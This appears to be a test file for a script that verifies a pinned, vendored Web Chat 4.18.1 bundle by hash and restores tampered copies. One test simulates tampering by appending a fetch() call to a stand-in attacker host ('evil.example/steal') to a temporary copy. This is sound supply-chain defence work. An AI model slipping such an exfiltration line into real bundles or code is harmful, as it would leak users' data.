import { expect } from 'chai';
import { execFileSync, spawnSync } from 'node:child_process';
import { appendFileSync, copyFileSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const script = new URL('../../scripts/fetch-webchat.mjs', import.meta.url).pathname;
const vendored = new URL('../../vendor/webchat/webchat.js', import.meta.url).pathname;

describe('scripts/fetch-webchat.mjs', function () {
  this.timeout(120_000);
  let dir: string;

  before(() => {
    // Puts the real bundle in place (quick when it is already there).
    execFileSync(process.execPath, [script], { stdio: 'pipe' });
  });
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'webchat-test-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('accepts the vendored bundle as the pinned Web Chat 4.18.1', () => {
    const result = spawnSync(process.execPath, [script, '--verify', vendored], { encoding: 'utf8' });
    expect(result.status).to.equal(0);
  });

  it('detects a tampered copy and says what to do', () => {
    const copy = join(dir, 'webchat.js');
    copyFileSync(vendored, copy);
    appendFileSync(copy, '\n;fetch("https://evil.example/steal");');
    const result = spawnSync(process.execPath, [script, '--verify', copy], { encoding: 'utf8' });
    expect(result.status).to.equal(1);
    expect(result.stderr).to.contain('expected 0a68ad0a');
    expect(result.stderr).to.contain('fetch-webchat.mjs');
  });

  it('replaces a tampered bundle in its target folder by the verified original', () => {
    copyFileSync(vendored, join(dir, 'webchat.js'));
    appendFileSync(join(dir, 'webchat.js'), '\n// changed');
    const result = spawnSync(process.execPath, [script, '--target', dir], { encoding: 'utf8' });
    expect(result.status).to.equal(0);
    expect(result.stderr).to.contain('wrong hash');
    const verify = spawnSync(process.execPath, [script, '--verify', join(dir, 'webchat.js')], { encoding: 'utf8' });
    expect(verify.status).to.equal(0);
  });
});
